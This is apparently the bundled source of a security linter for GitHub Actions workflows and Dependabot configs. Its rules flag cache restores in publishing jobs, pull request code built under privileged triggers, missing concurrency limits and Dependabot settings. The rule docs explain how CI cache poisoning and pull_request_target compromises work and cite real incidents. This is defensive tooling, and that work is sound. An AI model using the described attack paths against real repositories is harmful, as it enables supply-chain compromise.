    name: "ruby/setup-ruby",
    input: "bundler-cache",
    defaultOn: never,
    semantics: "truthy",
    off: { set: "false" },
    source: "ruby/setup-ruby action.yml"
  },
  {
    name: "pyo3/maturin-action",
    input: "sccache",
    defaultOn: never,
    semantics: "truthy",
    off: { set: "false" },
    source: "PyO3/maturin-action action.yml"
  },
  {
    name: "mozilla-actions/sccache-action",
    input: null,
    defaultOn: always,
    semantics: "truthy",
    off: null,
    source: "mozilla-actions/sccache-action README"
  },
  {
    name: "nix-community/cache-nix-action",
    input: null,
    defaultOn: always,
    semantics: "truthy",
    off: null,
    source: "nix-community/cache-nix-action README"
  },
  {
    name: "awalsh128/cache-apt-pkgs-action",
    input: null,
    defaultOn: always,
    semantics: "truthy",
    off: null,
    source: "awalsh128/cache-apt-pkgs-action README"
  },
  {
    name: "gradle/actions/setup-gradle",
    input: "cache-disabled",
    defaultOn: always,
    semantics: "inverted",
    off: { set: "true" },
    source: "gradle/actions setup-gradle action.yml"
  },
  {
    name: "gradle/gradle-build-action",
    input: "cache-disabled",
    defaultOn: always,
    semantics: "inverted",
    off: { set: "true" },
    source: "gradle/gradle-build-action action.yml"
  },
  {
    name: "jdx/mise-action",
    input: "cache",
    defaultOn: always,
    semantics: "truthy",
    off: { set: "false" },
    source: "jdx/mise-action action.yml"
  },
  {
    name: "denoland/setup-deno",
    input: "cache",
    defaultOn: never,
    semantics: "truthy",
    off: { set: "false" },
    source: "denoland/setup-deno action.yml (v2)"
  },
  {
    name: "pdm-project/setup-pdm",
    input: "cache",
    defaultOn: never,
    semantics: "truthy",
    off: { set: "false" },
    source: "pdm-project/setup-pdm action.yml"
  },
  {
    name: "prefix-dev/setup-pixi",
    input: "cache",
    defaultOn: () => "conditional",
    semantics: "truthy",
    off: { set: "false" },
    source: "prefix-dev/setup-pixi README (on when a lock file exists)"
  },
  {
    name: "ramsey/composer-install",
    input: "ignore-cache",
    defaultOn: always,
    semantics: "inverted",
    off: { set: "true" },
    source: "ramsey/composer-install action.yml (v2, v3: `ignore-cache` accepts 'yes', true, 1; otherwise actions/cache restores Composer's cache)"
  },
  {
    name: "docker/setup-buildx-action",
    input: "cache-binary",
    defaultOn: (major) => major === null || major >= 3,
    semantics: "truthy",
    off: { set: "false" },
    requires: "version",
    source: "docker/setup-buildx-action action.yml and src/main.ts (`cache-binary`, default true since v3.1.0: the buildx downloaded for `version:` goes through the Actions cache)"
  },
  {
    name: "docker/build-push-action",
    input: "cache-from",
    defaultOn: never,
    semantics: "gha",
    off: null,
    source: "docker/build-push-action action.yml (`cache-from: type=gha` imports build cache from the Actions cache)"
  },
  {
    name: "oven-sh/setup-bun",
    input: "no-cache",
    defaultOn: () => false,
    semantics: "inverted",
    off: null,
    source: "oven-sh/setup-bun action.yml (caches the bun binary only)"
  }
];
var byName2 = new Map(CACHE_ACTIONS.map((action) => [action.name, action]));
function cacheAction(name) {
  return byName2.get(name.toLowerCase());
}
function cacheEnabled(action, value, major) {
  if (action.input === null) return action.defaultOn(major);
  if (value === null) return action.defaultOn(major);
  const text = value.trim();
  if (action.semantics === "gha") {
    if (/(^|[\s,])type=gha\b/i.test(text)) return true;
    return !text.includes("${{") || withoutExpressions(text).includes("type=") ? false : "unknown";
  }
  if (text.includes("${{")) return "unknown";
  const lower2 = text.toLowerCase();
  if (action.semantics === "inverted")
    return lower2 === "true" || lower2 === "yes" || lower2 === "1" ? false : lower2 === "false" ? true : action.defaultOn(major);
  if (action.semantics === "nonempty") return lower2 !== "" && lower2 !== "false";
  if (lower2 === "auto") return true;
  return lower2 === "true";
}
function withoutExpressions(text) {
  let out = "";
  let from = 0;
  for (let open = text.indexOf("${{"); open !== -1; open = text.indexOf("${{", from)) {
    out += text.slice(from, open);
    const close = text.indexOf("}}", open + 3);
    if (close === -1) return out;
    from = close + 2;
  }
  return out + text.slice(from);
}

// server/src/knowledge/pr-checkout.ts
var PR_REF = /github\.event\.pull_request\.head\.(sha|ref)|github\.event\.pull_request\.merge_commit_sha|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|github\.event\.workflow_run\.pull_requests|refs\/pull\/|github\.event\.issue\.number|github\.event\.number|github\.event\.pull_request\.number|pull\/\$\{\{|steps\.[\w-]+\.outputs\.[\w-]*(head|sha|ref|pr|branch)/i;
var PR_REPO = /github\.event\.pull_request\.head\.repo\.(full_name|name|clone_url)|github\.event\.workflow_run\.head_repository\.(full_name|clone_url)|steps\.[\w-]+\.outputs\.[\w-]*repo/i;
function checkoutOf(file, step) {
  const action = stepAction(file, step);
  if (action?.name === "actions/checkout") {
    const ref2 = step.with.get("ref");
    const repository = step.with.get("repository");
    const refText = input(step, "ref") ?? "";
    const repoText = input(step, "repository") ?? "";
    const path = input(step, "path");
    const inSubdirectory = path !== null && !/^(\.\/?|\$\{\{\s*github\.workspace\s*\}\})$/.test(path.trim());
    if (ref2 && PR_REF.test(refText))
      return { step, span: ref2.valueSpan, how: `\`ref: ${refText.trim()}\``, inSubdirectory, path: inSubdirectory ? path : null };
    if (repository && PR_REPO.test(repoText))
      return {
        step,
        span: repository.valueSpan,
        how: `\`repository: ${repoText.trim()}\``,
        inSubdirectory,
        path: inSubdirectory ? path : null
      };
  }
  return null;
}
function shellCheckout(command) {
  const words2 = command.argv.map((word) => word.text);
  if ((command.name === "gh" || command.name === "hub") && words2[1] === "pr" && words2[2] === "checkout")
    return `\`${command.name} pr checkout\``;
  if (command.name === "git" && words2[1] === "fetch" && args(command).some((word) => /(^|:|\/)pull\/|refs\/pull\//.test(word.text)))
    return "`git fetch` of the pull request ref";
  if (command.name === "git" && (words2[1] === "checkout" || words2[1] === "switch" || words2[1] === "reset") && args(command).some((word) => PR_REF.test(word.text) || word.text === "FETCH_HEAD"))
    return "`git checkout` of the pull request head";
  if (command.name === "git" && (words2[1] === "pull" || words2[1] === "merge") && args(command).some((word) => PR_REF.test(word.text) || PR_REPO.test(word.text)))
    return `\`git ${words2[1]}\` of the pull request`;
  return null;
}
function untrustedCheckouts(file, workflow, job) {
  void workflow;
  const found = [];
  const scripts = runScriptsOf(file, job);
  for (const step of job.steps) {
    const checkout = checkoutOf(file, step);
    if (checkout) {
      found.push(checkout);
      continue;
    }
    for (const run2 of scripts) {
      if (run2.step !== step) continue;
      for (const command of run2.script.commands) {
        const how = shellCheckout(command);
        if (how) {
          found.push({ step, span: run2.sourceSpan(command.span), how, inSubdirectory: false, path: null });
          break;
        }
      }
    }
  }
  return found;
}
var BUILD_SUBCOMMANDS = {
  npm: /^(install|i|ci|test|t|run|run-script|start|build|exec|rebuild|pack|publish|x)$/,
  yarn: /^(install|test|run|build|exec|dlx|$)/,
  pnpm: /^(install|i|test|run|build|exec|dlx|x|recursive|-r)$/,
  bun: /^(install|i|test|run|build|x)$/,
  npx: null,
  make: null,
  cmake: null,
  ninja: null,
  cargo: /^(build|test|run|check|clippy|bench|doc|install|nextest|xtask|publish|fmt)$/,
  go: /^(build|test|run|generate|vet|install|mod)$/,
  mvn: null,
  mvnw: null,
  gradle: null,
  gradlew: null,
  ant: null,
  sbt: null,
  bundle: /^(install|exec)$/,
  rake: null,
  composer: /^(install|update|run|run-script)$/,
  dotnet: /^(build|test|run|restore|pack|publish)$/,
  msbuild: null,
  pytest: null,
  tox: null,
  nox: null,
  "pre-commit": null,
  poetry: /^(install|run|build)$/,
  uv: /^(sync|run|build|pip)$/,
  pdm: /^(install|sync|run|build)$/,
  hatch: /^(run|build|test|env)$/,
  docker: /^(build|compose|buildx)$/,
  "docker-compose": null,
  just: null,
  task: null,
  bazel: null,
  deno: /^(run|task|test)$/,
  node: null,
  ruby: null,
  perl: null,
  php: null,
  lerna: null,
  nx: null,
  turbo: null
};
function executes(command) {
  const name = command.name;
  const words2 = command.argv.map((word) => word.text);
  if (!name) return null;
  if (/^\.{1,2}\//.test(command.argv[0].text) || name.endsWith(".sh") && command.argv[0].text.includes("/"))
    return `\`${command.argv[0].text}\``;
  if ((name === "bash" || name === "sh" || name === "zsh" || name === "pwsh" || name === "source" || name === ".") && words2[1] && !words2[1].startsWith("-") && !/^\$\{\{/.test(words2[1]))
    return `\`${name} ${words2[1]}\``;
  if (name.startsWith("python")) {
    if (words2[1] === "-m" && /^(pip|build|pytest|tox|nox|setuptools)$/.test(words2[2] ?? ""))
      return words2[2] === "pip" && !args(command).some((word) => /^(\.|\.\[.*\]|-e|-r|--editable|--requirement)$/.test(word.text)) ? null : `\`python -m ${words2[2]}\``;
    if (words2[1] && !words2[1].startsWith("-")) return `\`${words2.slice(0, 2).join(" ")}\``;
    return null;
  }
  if (name === "pip" || name === "pip3")
    return args(command).some((word) => /^(\.|\.\[.*\]|\.\/.*|-e|-r|--editable|--requirement)$/.test(word.text)) ? `\`${words2.slice(0, 3).join(" ")}\`` : null;
  if (!(name in BUILD_SUBCOMMANDS)) return null;
  const sub = BUILD_SUBCOMMANDS[name];
  if (sub && !sub.test(words2[1] ?? "")) return null;
  return `\`${words2.slice(0, sub ? 2 : 1).join(" ")}\``;
}
var BUILDING_ACTIONS = /* @__PURE__ */ new Set([
  "github/codeql-action/autobuild",
  "docker/build-push-action",
  "gradle/gradle-build-action",
  "gradle/actions/setup-gradle",
  "pre-commit/action",
  "borales/actions-yarn",
  "bahmutov/npm-install",
  "cypress-io/github-action",
  "pypa/cibuildwheel",
  "pyo3/maturin-action",
  "goreleaser/goreleaser-action",
  "ruby/setup-ruby"
]);
function executionsAfter(file, job, from, checkout) {
  const found = [];
  const scripts = runScriptsOf(file, job);
  for (const step of job.steps) {
    if (step.index < from.index) continue;
    if (step.index > from.index) {
      const local = localActionPath(file, step);
      if (local !== null && !(checkout?.inSubdirectory ?? false))
        found.push({
          step,
          span: step.uses.valueSpan,
          what: `the local action \`${step.uses ? file.text.slice(step.uses.valueSpan.start, step.uses.valueSpan.end) : local}\``
        });
      const action = stepAction(file, step);
      if (action && BUILDING_ACTIONS.has(action.name) && (action.name !== "ruby/setup-ruby" || /^true$/i.test((input(step, "bundler-cache") ?? "").trim()))) {
        found.push({ step, span: action.site.entry.valueSpan, what: `\`${action.name}\`` });
      }
    }
    for (const run2 of scripts) {
      if (run2.step !== step) continue;
      for (const command of run2.script.commands) {
        if (step.index === from.index && command.span.start <= (fromCommandEnd(file, run2, checkout) ?? Infinity)) continue;
        const what = executes(command);
        if (what) {
          found.push({ step, span: run2.sourceSpan(command.argv[0]?.span ?? command.span), what });
          break;
        }
      }
    }
  }
  return found;
}
function fromCommandEnd(file, run2, checkout) {
  void file;
  if (!checkout || checkout.step !== run2.step) return null;
  for (const command of run2.script.commands) {
    const span = run2.sourceSpan(command.span);
    if (span.start >= checkout.span.start && span.end <= checkout.span.end + 1) return command.span.end;
  }
  return null;
}

// server/src/rules/cache-poisoning.ts
function publishSignals(file, workflow, job) {
  const signals = [];
  for (const trigger of workflow.triggers) {
    if (trigger.name === "release") signals.push({ strong: true, what: "the `release` trigger", span: trigger.span, scope: "workflow" });
    if (trigger.name === "push" && trigger.config) {
      const tags = trigger.config.get("tags");
      if (!tags) continue;
      const onlyTags = !trigger.config.has("branches") && !trigger.config.has("branches-ignore") && !trigger.config.has("paths");
      signals.push({ strong: true, what: "a tag push", span: tags.keySpan, scope: onlyTags ? "workflow" : "tags" });
    }
  }
  for (const step of job.steps) {
    const action = stepAction(file, step);
    const publisher = action && publisherAction(action.name);
    if (publisher && action) {
      if (publisher.when) {
        const value = input(step, publisher.when);
        if (value === null || /^(false|)$/i.test(value.trim())) continue;
      }
      signals.push({ strong: publisher.registry !== "pages", what: `\`${action.name}\``, span: action.site.entry.valueSpan, scope: "job" });
    }
  }
  for (const run2 of runScriptsOf(file, job)) {
    for (const command of run2.script.commands) {
      const publish = publishCommand(command);
      if (publish && (publish.label !== "gh release create" || releaseAssets(command))) {
        signals.push({ strong: true, what: `\`${publish.label}\``, span: run2.sourceSpan(command.span), scope: "job" });
      }
    }
  }
  if (hasIdTokenWrite(workflow, job)) {
    const entry = job.permissions ?? workflow.permissions;
    const released = signals.some((signal) => signal.scope !== "job");
    signals.push({ strong: released, what: "`id-token: write`", span: entry ? entry.keySpan : job.idSpan, scope: "job" });
  }
  return signals;
}
var GH_RELEASE_VALUE_FLAGS = /* @__PURE__ */ new Set([
  "-t",
  "--title",
  "-n",
  "--notes",
  "-F",
  "--notes-file",
  "--target",
  "-R",
  "--repo",
  "--discussion-category",
  "--notes-start-tag"
]);
function releaseAssets(command) {
  const words2 = command.argv.slice(3);
  let positional = 0;
  for (let i = 0; i < words2.length; i++) {
    const text = words2[i].text;
    if (GH_RELEASE_VALUE_FLAGS.has(text)) i++;
    else if (!text.startsWith("-")) positional++;
  }
  return positional > 1;
}
var INERT = /* @__PURE__ */ new Set([
  "",
  "ls",
  "echo",
  "printf",
  "mkdir",
  "cp",
  "mv",
  "rm",
  "cat",
  "find",
  "tree",
  "cd",
  "test",
  "[",
  "true",
  "pwd",
  "sha256sum",
  "sha512sum",
  "shasum",
  "tar",
  "unzip",
  "zip",
  "du",
  "set",
  "export"
]);
var UPLOADS = /* @__PURE__ */ new Set([
  "uv publish",
  "twine upload",
  "maturin upload",
  "gem push",
  "nuget push",
  "dotnet nuget push",
  "gh release create",
  "gh release upload"
]);
var FILE_ACTIONS = /* @__PURE__ */ new Set([
  "actions/checkout",
  "actions/download-artifact",
  "actions/upload-artifact",
  "actions/attest-build-provenance",
  "actions/attest",
  "sigstore/gh-action-sigstore-python",
  "pypa/gh-action-pypi-publish",
  "softprops/action-gh-release",
  "ncipollo/release-action",
  "svenstaro/upload-release-action"
]);
function publishesDownloadsOnly(file, job) {
  let downloads = false;
  for (const step of job.steps) {
    if (step.run) continue;
    const name = stepAction(file, step)?.name;
    if (!name) return false;
    if (name === "actions/download-artifact") downloads = true;
    else if (!FILE_ACTIONS.has(name) && !cacheAction(name)) return false;
  }
  if (!downloads) return false;
  return runScriptsOf(file, job).every(
    (run2) => run2.script.commands.every((command) => INERT.has(command.name) || UPLOADS.has(publishCommand(command)?.label ?? ""))
  );
}
function onForTags(value) {
  if (value === null) return null;
  const occurrences = findExpressions(value);
  if (occurrences.length !== 1 || value.slice(0, occurrences[0].start).trim() || value.slice(occurrences[0].end).trim()) return null;
  let node = occurrences[0].parsed.ast;
  let negated = false;
  while (node && (node.type === "group" || node.type === "unary")) {
    if (node.type === "unary") negated = !negated;
    node = node.type === "group" ? node.expr : node.operand;
  }
  if (!node) return null;
  let tags = false;
  if (node.type === "call" && node.name.toLowerCase() === "startswith" && node.args.length === 2) {
    const literal = node.args[1];
    tags = contextPath(node.args[0], { caseInsensitive: true }) === "github.ref" && literal.type === "literal" && String(literal.value).startsWith("refs/tags");
  } else if (node.type === "binary" && (node.op === "==" || node.op === "!=")) {
    for (const [a, b] of [
      [node.left, node.right],
      [node.right, node.left]
    ]) {
      if (contextPath(a, { caseInsensitive: true }) === "github.ref_type" && b.type === "literal" && b.value === "tag") {
        tags = true;
        if (node.op === "!=") negated = !negated;
      }
    }
  }
  return tags ? !negated : null;
}
var GUARD = /!\s*startsWith\(\s*github\.ref\s*,\s*'refs\/tags\/'\s*\)|github\.event_name\s*!=\s*'release'/;
var cachePoisoning = {
  id: "cache-poisoning",
  title: "Cache restored in a publishing job, or written by an untrusted run",
  kinds: ["workflow"],
  severity: "high",
  confidence: "low",
  persona: "regular",
  online: false,
  docs: {
    summary: "A job that publishes (release or tag trigger, publisher action, publish command, `id-token: write`) restores a GitHub Actions cache, or a privileged-trigger job building pull request code writes one.",
    why: "Caches are shared across a repository's runs: whoever can write an entry that the release job restores controls what gets built. In Ultralytics (2024) a poisoned cache went into the PyPI releases 8.3.41/42; in TanStack (2026, CVE-2026-45321) a `pull_request_target` build wrote the cache the release job restored, and 84 npm versions shipped with valid provenance. Cline (2026) was poisoned the same way through its nightly publish.",
    fix: "Turn caching off in release and publish jobs (`enable-cache: false` for setup-uv, `cache: false` for setup-go, no `cache:` / `package-manager-cache: false` for setup-node, `ACTIONS_CACHE_MODE: none` in the job's `env:` for actions built on `@actions/cache` ≥ 6.2.0), and never build pull request code in a `pull_request_target` job."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow) return;
    const privileged = privilegedTriggers(workflow);
    for (const job of workflow.jobs) {
      if (!job.steps.some((step) => cacheAction(stepAction(file, step)?.name ?? ""))) continue;
      const signals = publishSignals(file, workflow, job);
      const untrusted = privileged.length > 0 ? untrustedCheckouts(file, workflow, job) : [];
      if (signals.length === 0 && untrusted.length === 0) continue;
      const releases = signals.some((signal) => signal.scope === "workflow" || signal.scope === "job" && signal.strong);
      const tagPart = signals.some((signal) => signal.scope === "tags");
      const downloadsOnly = signals.length > 0 && publishesDownloadsOnly(file, job);
      for (const step of job.steps) {
        const action = stepAction(file, step);
        const known = action && cacheAction(action.name);
        if (!action || !known) continue;
        if (known.requires && !input(step, known.requires)?.trim()) continue;
        const env = visibleEnv(file, job, step);
        if ((env.get("ACTIONS_CACHE_MODE") ?? "").trim().toLowerCase() === "none") continue;
        const guard = scalarText(step.if?.value ?? null) ?? "";
        if (GUARD.test(guard)) continue;
        const major = actionMajorVersion(file, action);
        const value = known.input ? input(step, known.input) : null;
        let enabled = cacheEnabled(known, value, major);
        if (enabled === false) continue;
        if (known.autoInput && value === null && major !== null && major >= known.autoInput.since) {
          const auto = input(step, known.autoInput.input);
          if (auto !== null && /^false$/i.test(auto.trim())) continue;
        }
        if (enabled === "conditional" && value === null && !known.autoInput) continue;
        const tagToggle = enabled === "unknown" ? onForTags(value) : null;
        const forTags = tagToggle === null ? null : known.semantics === "inverted" ? !tagToggle : tagToggle;
        if (forTags === true) enabled = true;
        const control = known.input ? step.with.get(known.input) : void 0;
        const span = control ? control.keySpan : action.site.entry.valueSpan;
        const fixes = offFix(file, step, known, value, enabled);
        const related2 = signals.slice(0, 3).map((signal) => ({ span: signal.span, message: `publishes: ${signal.what}` }));
        if (untrusted.length > 0 && known.mode !== "restore") {
          report2({
            span,
            message: `\`${action.name}\` writes the cache of the base branch from a \`${privileged[0]}\` job that builds pull request code: the next job restoring that cache (a release, too) runs what the pull request put in it`,
            severity: "high",
            confidence: "medium",
            related: [{ span: untrusted[0].span, message: "checks out pull request code" }, ...related2],
            fixes
          });
          continue;
        }
        if (signals.length === 0 || known.mode === "save") continue;
        if ((action.name === "actions/cache" || action.name === "actions/cache/restore") && /^true$/i.test(input(step, "lookup-only")?.trim() ?? ""))
          continue;
        if (downloadsOnly) continue;
        if (!releases && !(tagPart && forTags === true) && !signals.some((signal) => signal.scope === "job")) continue;
        if (!releases && tagPart && forTags === false) continue;
        const what = signals.filter((signal) => releases || forTags !== true || signal.scope === "tags").map((signal) => signal.what).slice(0, 2).join(", ");
        const how = forTags === true ? `restores a cache on tag pushes (\`${value?.trim()}\`)` : enabled === true ? "restores a cache" : enabled === "conditional" ? known.autoInput ? `may restore a cache (v${major} caches automatically when package.json ${major !== null && major >= 6 ? "names npm as its package manager" : "has a `packageManager` field"}; \`${known.autoInput.input}: false\` turns it off)` : "may restore a cache (on by default when a lock file is found)" : "may restore a cache (caching is set by an expression)";
        const jobStrong = signals.some((signal) => signal.strong && signal.scope !== "tags");
        report2({
          span,
          message: `\`${action.name}\` ${how} in job \`${job.id}\`, which publishes (${what}): a poisoned cache entry ends up in the release`,
          confidence: releases && enabled === true || forTags === true ? "medium" : "low",
          persona: forTags === true ? "regular" : enabled === "unknown" || !jobStrong ? "pedantic" : "regular",
          related: related2,
          fixes
        });
      }
    }
  }
};
function offFix(file, step, known, value, enabled) {
  if (!known.off || !known.input) return [];
  let edits = null;
  if ("set" in known.off) edits = setStepInput(file, step, known.input, known.off.set);
  else if (value !== null) edits = setStepInput(file, step, known.input, "''");
  else if (known.off.orSet && enabled === "conditional") edits = setStepInput(file, step, known.off.orSet.input, known.off.orSet.value);
  if (!edits) return [];
  const label = edits.length === 1 && edits[0].newText.includes("''") ? `\`${known.input}: ''\`` : "caching off";
  return [{ title: `Turn the cache off (${label})`, isPreferred: true, safety: "unsafe", edits }];
}

// server/src/rules/concurrency-limits.ts
var SUPERSEDING = /* @__PURE__ */ new Set(["push", "pull_request", "pull_request_target", "merge_group"]);
function declaresCancel(entry, doc) {
  if (!entry) return false;
  return new MapView(asMap(entry.value), doc).has("cancel-in-progress");
}
var concurrencyLimits = {
  id: "concurrency-limits",
  title: "Workflow without a concurrency limit",
  kinds: ["workflow"],
  severity: "low",
  confidence: "high",
  persona: "pedantic",
  online: false,
  docs: {
    summary: "A workflow run by `push` or pull-request events has no `concurrency:` with `cancel-in-progress`, neither at the top nor in every job, so superseded runs keep running.",
    why: "Without a limit every push starts another full run: runner minutes, and for self-hosted runners a queue an attacker can flood by pushing to a pull request. A `concurrency` group also stops two deployments from racing.",
    fix: "Add at the top: `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }` (or `cancel-in-progress: false` for deployments you want queued, which states the choice)."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow || workflow.jobs.length === 0) return;
    if (!workflow.triggers.some((trigger) => SUPERSEDING.has(trigger.name))) return;
    const top = workflow.get("concurrency");
    if (declaresCancel(top, workflow.doc)) return;
    if (workflow.jobs.every((job) => declaresCancel(job.get("concurrency"), job.doc))) return;
    const span = top ? top.keySpan : workflow.on?.keySpan ?? { start: 0, end: 0 };
    report2({
      span,
      message: top ? "`concurrency` has no `cancel-in-progress`, so superseded runs of this workflow keep running" : "This workflow has no `concurrency` group with `cancel-in-progress`: every push starts another full run while older ones continue"
    });
  }
};

// server/src/knowledge/target-safe-actions.ts
var TARGET_SAFE_ACTIONS = [
  {
    repository: "actions/labeler",
    source: 'GitHub Docs, "Automatic token authentication" (its example workflow runs actions/labeler `on: pull_request_target`); the actions/labeler README reads its configuration from the base branch and does not check out the pull request'
  },
  {
    repository: "amannn/action-semantic-pull-request",
    source: "the action's README (its example runs `on: pull_request_target`; it only reads the pull request title through the API)"
  }
];
var SAFE = new Set(TARGET_SAFE_ACTIONS.map((action) => action.repository));
function isTargetSafeAction(repository) {
  return SAFE.has(repository.toLowerCase());
}

// server/src/rules/dangerous-triggers.ts
var DANGEROUS = /* @__PURE__ */ new Set(["pull_request_target", "workflow_run"]);
function onlySafeActions(file) {
  const workflow = file.workflow;
  if (!workflow || workflow.jobs.length === 0) return null;
  const repositoryOf = /* @__PURE__ */ new Map();
  for (const site of file.uses) if (site.step && site.reference.kind === "remote") repositoryOf.set(site.step, site.reference.repository);
  const used = /* @__PURE__ */ new Set();
  for (const job of workflow.jobs) {
    if (job.isReusableWorkflowCall || job.steps.length === 0) return null;
    for (const step of job.steps) {
      const repository = step.run ? void 0 : repositoryOf.get(step);
      if (!repository || !isTargetSafeAction(repository)) return null;
      used.add(repository.toLowerCase());
    }
  }
  return [...used];
}
var dangerousTriggers = {
  id: "dangerous-triggers",
  title: "Privileged trigger reachable by outsiders",
  kinds: ["workflow"],
  severity: "high",
  confidence: "medium",
  persona: "regular",
  online: false,
  docs: {
    summary: "`pull_request_target` and `workflow_run` run with the base repository's secrets and a token that can write, on events that anyone with a fork can cause.",
    why: "These triggers are behind most CI compromises of 2024–2026: spotbugs (the start of the reviewdog → tj-actions chain), Ultralytics, PostHog, Trivy (hackerbot-claw), TanStack and the prt-scan wave all ran attacker-controlled code or text in a `pull_request_target` workflow that held secrets or a write token. Since 2025-12-08 GitHub runs `pull_request_target` from the workflow file of the default branch, so a pull request can no longer change the workflow itself through its base branch; the code a workflow checks out from the pull request, its title, branch name and artifacts are still the contributor's. Astral forbids both triggers organisation-wide.",
    fix: "Use `pull_request` (fork runs get no secrets and a read-only token). To comment on pull requests, let a `pull_request` workflow upload its results and have a GitHub App or a separate, minimal workflow act on them without checking out or executing pull request code."
  },
  check({ file, report: report2 }) {
    const workflow = file.workflow;
    if (!workflow) return;
    let safe;
    for (const trigger of workflow.triggers) {
      if (!DANGEROUS.has(trigger.name)) continue;
      const info = triggerInfo(trigger.name);
      const jobs = workflow.jobs.length;
      const subject = jobs === 1 ? "its job" : `its ${jobs} jobs`;
      const base2 = `\`${trigger.name}\` runs with the base repository's secrets and a token that can write, and can be fired by ${trigger.name === "workflow_run" ? "a run started from a fork pull request" : "any fork pull request"}`;
      if (trigger.name === "pull_request_target" && (safe ??= onlySafeActions(file))) {
        report2({
          span: trigger.span,
          message: `${base2}; ${subject} only ${jobs === 1 ? "runs" : "run"} ${safe.map((name) => `\`${name}\``).join(", ")}, documented as safe for this trigger (no pull request code is checked out or run)`,
          severity: "informational",
          persona: "auditor"
        });
        continue;
      }
      const verb = info.privileged ? jobs === 1 ? "inherits that privilege" : "inherit that privilege" : jobs === 1 ? "runs with it" : "run with it";
      report2({ span: trigger.span, message: `${base2}; ${subject} ${verb}` });
    }
  }
};

// server/src/rules/support/lines.ts
function insertLinesAfterNodeEnd(file, nodeEnd, indent, lines) {
  const index = file.lines;
  const eol = index.eol;
  const line = index.lineAt(Math.max(0, nodeEnd - 1));
  const body = lines.map((text) => indent + text + eol).join("");
  if (line + 1 < index.lineCount) {
    const at = index.lineStarts[line + 1];
    return { span: { start: at, end: at }, newText: body };
  }
  const end = file.text.length;
  return { span: { start: end, end }, newText: eol + body.slice(0, body.length - eol.length) };
}
function columnIndent(file, offset) {
  const line = file.lines.lineAt(offset);
  return " ".repeat(offset - file.lines.lineStarts[line]);
}

// server/src/rules/dependabot-cooldown.ts
var DEFAULT_DAYS = 7;
var dependabotCooldown = {
  id: "dependabot-cooldown",
  title: "Dependabot updates without a cooldown",
  kinds: ["dependabot"],
  severity: "medium",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "An `updates:` entry of `.github/dependabot.yml` has no `cooldown:` or a `default-days` below 7, so a release is proposed (and often merged) the day it is published.",
    why: "Compromised releases are usually caught within days: the malicious tj-actions/changed-files and reviewdog tags (March 2025) were live for hours, the Trivy tags (March 2026) for about 12 hours, and most npm worm releases of 2025 were pulled within a day. A cooldown lets that window pass before your updater proposes the version. Astral requires at least 7 days.",
    fix: "Add `cooldown: { default-days: 7 }` to every `updates:` entry (the quick fix inserts or raises it)."
  },
  check({ file, config, report: report2 }) {
    const dependabot = file.dependabot;
    if (!dependabot) return;
    const minimum = typeof config.days === "number" && Number.isFinite(config.days) && config.days >= 1 ? Math.floor(config.days) : DEFAULT_DAYS;
    for (const update of dependabot.updates) {
      const map2 = update.map;
      const span = update.span;
      if (!map2 || !span) continue;
      const ecosystem = update.string("package-ecosystem");
      const name = ecosystem ? `\`${ecosystem.value}\`` : "This";
      const anchor = ecosystem?.span ?? { start: span.start, end: span.start };
      const cooldownEntry = update.get("cooldown");
      if (!cooldownEntry) {
        const firstKey = update.entries[0];
        const indent = firstKey ? columnIndent(file, firstKey.keySpan.start) : "  ";
        report2({
          span: anchor,
          message: `${name} updates have no cooldown: new releases are proposed the day they are published. Add \`cooldown: { default-days: ${minimum} }\``,
          fixes: [
            {
              title: `Add a ${minimum}-day cooldown`,
              isPreferred: true,
              safety: "safe",
              edits: [insertLinesAfterNodeEnd(file, span.end, indent, ["cooldown:", `  default-days: ${minimum}`])]
            }
          ]
        });
        continue;
      }
      const cooldown = new MapView(asMap(cooldownEntry.value), file.doc);
      const days = cooldown.get("default-days");
      if (!days) {
        const first = mapEntries(cooldown.map, file.doc)[0];
        report2({
          span: cooldownEntry.keySpan,
          message: `${name} updates have a cooldown without \`default-days\`, so versions not covered by the other keys wait only Dependabot's default. Set \`default-days: ${minimum}\``,
          fixes: first ? [
            {
              title: `Set default-days: ${minimum}`,
              isPreferred: true,
              safety: "safe",
              edits: [insertLinesAbove(file, first.keySpan.start, [`default-days: ${minimum}`])]
            }
          ] : []
        });
        continue;
      }
      const text = scalarText(days.value);
      const value = text === null ? NaN : Number(text);
      if (Number.isFinite(value) && value >= minimum) continue;
      if (text !== null && text.includes("${{")) continue;
      report2({
        span: days.valueSpan,
        message: `${name} updates wait only ${text ?? "an unknown number of"} day(s) before proposing a release; use at least ${minimum}`,
        fixes: [
          {
            title: `Raise default-days to ${minimum}`,
            isPreferred: true,
            safety: "safe",
            edits: [{ span: days.valueSpan, newText: String(minimum) }]
          }
        ]
      });
    }
  }
};

// server/src/rules/dependabot-execution.ts
var dependabotExecution = {
  id: "dependabot-execution",
  title: "Dependabot allowed to run code from dependencies",
  kinds: ["dependabot"],
  severity: "high",
  confidence: "high",
  persona: "regular",
  online: false,
  docs: {
    summary: "`insecure-external-code-execution: allow` lets Dependabot run code from the dependency manifests it updates (setup.py, gemspecs, Gradle scripts) while holding the credentials of your private registries.",
    why: "Package managers such as pip (setup.py), Bundler (gemspecs) and Mix evaluate code to resolve dependencies. With this option on, a malicious or compromised release executes inside Dependabot's update job, next to the registry credentials configured for it.",
    fix: "Remove the option or set it to `deny` (the default). If updates then fail, vendor the dependency or move the logic out of the manifest."
  },
  check({ file, report: report2 }) {
    const dependabot = file.dependabot;
    if (!dependabot) return;
    for (const update of dependabot.updates) {
      const option = update.string("insecure-external-code-execution");
      if (!option || option.value !== "allow") continue;
      const ecosystem = update.string("package-ecosystem")?.value;
      report2({
        span: option.span,
        message: `Dependabot may execute code from ${ecosystem ? `\`${ecosystem}\`` : "these"} dependencies while updating them, with access to the configured registry credentials`,
        fixes: [
          {
            title: "Set insecure-external-code-execution to deny",
            isPreferred: true,
            safety: "unsafe",
            edits: [{ span: option.span, newText: "deny" }]
          }
        ]
      });
    }
  }
};

// server/src/rules/dependabot-missing-actions.ts
var dependabotMissingActions = {
  id: "dependabot-missing-actions",
  title: "Dependabot does not update GitHub Actions",
  kinds: ["dependabot"],
  severity: "low",
  confidence: "high",
  persona: "pedantic",
  online: false,
  docs: {
